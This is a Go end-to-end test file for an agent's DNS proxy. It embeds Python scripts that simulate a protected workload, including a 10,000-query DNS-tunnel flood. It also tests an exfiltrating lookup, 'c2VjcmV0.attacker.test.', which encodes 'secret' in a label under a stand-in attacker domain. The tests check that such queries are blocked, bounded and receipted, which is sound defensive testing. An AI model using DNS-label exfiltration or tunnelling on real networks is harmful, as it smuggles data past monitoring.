package agent

import (
	"fmt"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/backbay-labs/chio-agent/internal/dnsproxy"
	"github.com/backbay-labs/chio-agent/kernel"
)

// dnsClientPy is a protected workload's resolver and client: it asks
// RESOLVER (any address, port 53) for NAME's A record over UDP and prints
// "rcode=N addrs=A,B"; with CONNECT=PORT it then sends an HTTP request for
// NAME to the first address and prints the status line (or "closed").
const dnsClientPy = `
import os, random, socket, struct
name, resolver = os.environ["NAME"], os.environ["RESOLVER"]
qid = random.randrange(65536)
q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
for label in name.rstrip(".").split("."):
    q += bytes([len(label)]) + label.encode()
q += b"\x00" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(q, (resolver, 53))
m, _ = s.recvfrom(4096)
rcode, an = m[3] & 0xF, struct.unpack(">H", m[6:8])[0]
i = 12
while m[i] != 0:
    i += 1 + m[i]
i += 5
addrs = []
def skip(i):
    while True:
        if m[i] & 0xC0 == 0xC0:
            return i + 2
        if m[i] == 0:
            return i + 1
        i += 1 + m[i]
for _ in range(an):
    i = skip(i)
    typ, _, _, ln = struct.unpack(">HHIH", m[i:i+10])
    if typ == 1:
        addrs.append(socket.inet_ntoa(m[i+10:i+14]))
    i += 10 + ln
line = "rcode=%d addrs=%s" % (rcode, ",".join(addrs))
port = os.environ.get("CONNECT")
if port and addrs:
    c = socket.create_connection((addrs[0], int(port)), timeout=5)
    c.sendall(("GET /x HTTP/1.0\r\nHost: %s\r\n\r\n" % name.rstrip(".")).encode())
    r = c.recv(4096).split(b"\r\n")[0].decode()
    line += " http=" + (r or "closed")
print(line)
`

// TestDNSProxyDecidesAndTells runs the agent's own DNS proxy end to end: a
// protected workload's queries, sent to an address no resolver serves, are
// decided by its policy; a blocked name and an exfiltrating label get
// NXDOMAIN and never reach the upstream; an allowed name is answered by the
// upstream, and what the workload was told is the anti-spoofing truth: a
// connection naming a host the agent cannot resolve itself (no agent.hosts
// entry, no system DNS) is allowed to the address the workload was given
// and refused to another.
func TestDNSProxyDecidesAndTells(t *testing.T) {
	t.Parallel()
	e := newE2E(t, e2eOptions{dnsProxy: true})
	var mu sync.Mutex
	var asked []string
	answerDNS(e.dns, true, func(q dnsmessage.Question) ([4]byte, bool) {
		mu.Lock()
		asked = append(asked, q.Name.String())
		mu.Unlock()
		switch q.Name.String() {
		case "cdn.allowed.test.":
			return [4]byte{127, 0, 0, 1}, q.Type == dnsmessage.TypeA
		case "elsewhere.allowed.test.":
			return [4]byte{127, 0, 0, 3}, q.Type == dnsmessage.TypeA
		}
		return [4]byte{}, false
	})
	resolve := func(name, connect string) string {
		t.Helper()
		env := []string{"env", "NAME=" + name, "RESOLVER=127.0.0.53"}
		if connect != "" {
			env = append(env, "CONNECT="+connect)
		}
		out, code := e.run(env[0], append(env[1:], "python3", "-c", dnsClientPy)...)
		if code != 0 {
			t.Fatalf("workload resolving %s: exit %d, %q", name, code, out)
		}
		return out
	}
	port := fmt.Sprint(e.httpAddr.Port())

	// Allowed, and connected to exactly the address it was told.
	if got := resolve("cdn.allowed.test.", port); !strings.HasPrefix(got, "rcode=0 addrs=127.0.0.1 http=HTTP/1.") || !strings.Contains(got, " 200") {
		t.Errorf("allowed name: %q, want its answer and a 200 from the told address", got)
	}
	// Told 127.0.0.3: the same server at 127.0.0.1 under that name is
	// another address than the workload was given.
	out, code := e.run("env", "NAME=elsewhere.allowed.test.", "RESOLVER=127.0.0.53", "python3", "-c",
		strings.Replace(dnsClientPy, "addrs[0], int(port)", `"127.0.0.1", int(port)`, 1)+"\n", "x")
	if code != 0 || !strings.HasPrefix(out, "rcode=0 addrs=127.0.0.3") || strings.Contains(out, " 200") {
		t.Errorf("name told 127.0.0.3, connected to 127.0.0.1: exit %d, %q; want refused", code, out)
	}
	// Blocked by the policy, and an exfiltrating label: NXDOMAIN, and
	// the upstream never hears of them.
	for _, name := range []string{"forbidden.test.", "c2VjcmV0.attacker.test."} {
		if got := resolve(name, ""); got != "rcode=3 addrs=" {
			t.Errorf("%s: %q, want NXDOMAIN", name, got)
		}
	}
	// Bytes that are no DNS query, over UDP and TCP: no answer, a deny
	// receipt, nothing forwarded.
	if got := e.dnsChild("", "raw-udp", netip.MustParseAddrPort("127.0.0.53:53")); got != "noanswer" {
		t.Errorf("raw bytes over UDP: %q, want no answer", got)
	}
	if got := e.dnsChild("", "raw-tcp", netip.MustParseAddrPort("127.0.0.53:53")); got != "closed" {
		t.Errorf("raw bytes over TCP: %q, want the connection closed", got)
	}
	e.waitDecision(func(d Decision) bool { return d.Guard == kernel.GuardDNS && d.Transport == "tcp" && d.ReceiptID != "" })
	e.waitDecision(func(d Decision) bool { return d.Guard == kernel.GuardDNS && d.Transport == "udp" && d.ReceiptID != "" })
	mu.Lock()
	defer mu.Unlock()
	for _, n := range asked {
		if strings.Contains(n, "attacker") || strings.Contains(n, "forbidden") {
			t.Errorf("the upstream was asked %q", n)
		}
	}
	if len(asked) == 0 {
		t.Error("the upstream was never asked: the allowed names were not forwarded")
	}
	// Every decision was receipted: the queries' and the connections'.
	var dnsAllow, dnsDeny int
	e.mu.Lock()
	for _, d := range e.decided {
		if d.Protocol == "dns" {
			if d.Verdict == "allow" {
				dnsAllow++
			} else {
				dnsDeny++
			}
			if d.ReceiptID == "" {
				t.Errorf("DNS decision without a receipt: %+v", d)
			}
		}
	}
	e.mu.Unlock()
	if dnsAllow < 2 || dnsDeny < 4 {
		t.Errorf("DNS decisions: %d allowed, %d denied; want 2 and 4", dnsAllow, dnsDeny)
	}
	// status shows the DNS listeners and what the proxy did.
	st := e.agent.Status("test")
	if st.DNS == nil || !st.DNS.Proxy || st.DNS.Answered < 2 || st.DNS.Refused < 4 {
		t.Errorf("status DNS = %+v; want the proxy with at least 2 answered and 4 refused", st.DNS)
	}
	kinds := map[string]int{}
	for _, l := range st.Listeners {
		kinds[l.Kind]++
	}
	if kinds["proxy"] == 0 || kinds["dns/udp"] == 0 || kinds["dns/tcp"] == 0 {
		t.Errorf("status listeners by kind: %v", kinds)
	}
}

// floodPy sends N queries for distinct names (q<i>.allowed.test, allowed by
// the policy: only the bounds stop them) to RESOLVER:53 from one socket,
// one at a time, and prints how many answers came back with each rcode.
const floodPy = `
import os, socket, struct, collections
n, resolver = int(os.environ["N"]), os.environ["RESOLVER"]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
rc = collections.Counter()
for i in range(n):
    q = struct.pack(">HHHHHH", i & 0xFFFF, 0x0100, 1, 0, 0, 0)
    for label in ("q%d" % i, "allowed", "test"):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack(">HH", 1, 1)
    s.sendto(q, (resolver, 53))
    try:
        m, _ = s.recvfrom(4096)
        rc[m[3] & 0xF] += 1
    except socket.timeout:
        rc["timeout"] += 1
print(" ".join("%s=%d" % (k, v) for k, v in sorted(rc.items(), key=str)))
`

// TestDNSProxyBoundsATunnel: 10,000 distinct names from one protected
// workload (a DNS tunnel) are bounded: at most the distinct-name bound
// reaches the upstream, the rest are REFUSED, and the receipts, aggregated
// where the flood is, stand for every query exactly once.
func TestDNSProxyBoundsATunnel(t *testing.T) {
	t.Parallel()
	const n = 10000
	e := newE2E(t, e2eOptions{dnsProxy: true})
	var mu sync.Mutex
	asked := map[string]bool{}
	answerDNS(e.dns, true, func(q dnsmessage.Question) ([4]byte, bool) {
		mu.Lock()
		asked[q.Name.String()] = true
		mu.Unlock()
		return [4]byte{127, 0, 0, 1}, q.Type == dnsmessage.TypeA
	})
	out, code := e.run("env", fmt.Sprintf("N=%d", n), "RESOLVER=127.0.0.53", "python3", "-c", floodPy)
	if code != 0 || strings.Contains(out, "timeout") {
		t.Fatalf("flood: exit %d, %q", code, out)
	}
	mu.Lock()
	forwarded := len(asked)
	mu.Unlock()
	if forwarded == 0 || forwarded > dnsproxy.DefaultDistinctNames {
		t.Errorf("%d distinct names reached the upstream, want 1 to %d", forwarded, dnsproxy.DefaultDistinctNames)
	}
	if !strings.Contains(out, "5=") { // REFUSED
		t.Errorf("no query was refused: %q", out)
	}
	// Every query is in exactly one receipt: the aggregated ones are
	// written a linger after the flood.
	var total, allowed int
	deadline := time.Now().Add(30 * time.Second)
	for {
		total, allowed = 0, 0
		e.mu.Lock()
		for _, d := range e.decided {
			if d.Protocol != "dns" {
				continue
			}
			if d.ReceiptID == "" {
				t.Fatalf("DNS decision without a receipt: %+v", d)
			}
			total += int(max(d.Count, 1))
			if d.Verdict == "allow" {
				allowed++
			}
		}
		e.mu.Unlock()
		if total >= n || time.Now().After(deadline) {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	if total != n {
		t.Errorf("receipts stand for %d queries, want %d", total, n)
	}
	if allowed != forwarded {
		t.Errorf("%d allow receipts, %d names forwarded", allowed, forwarded)
	}
}
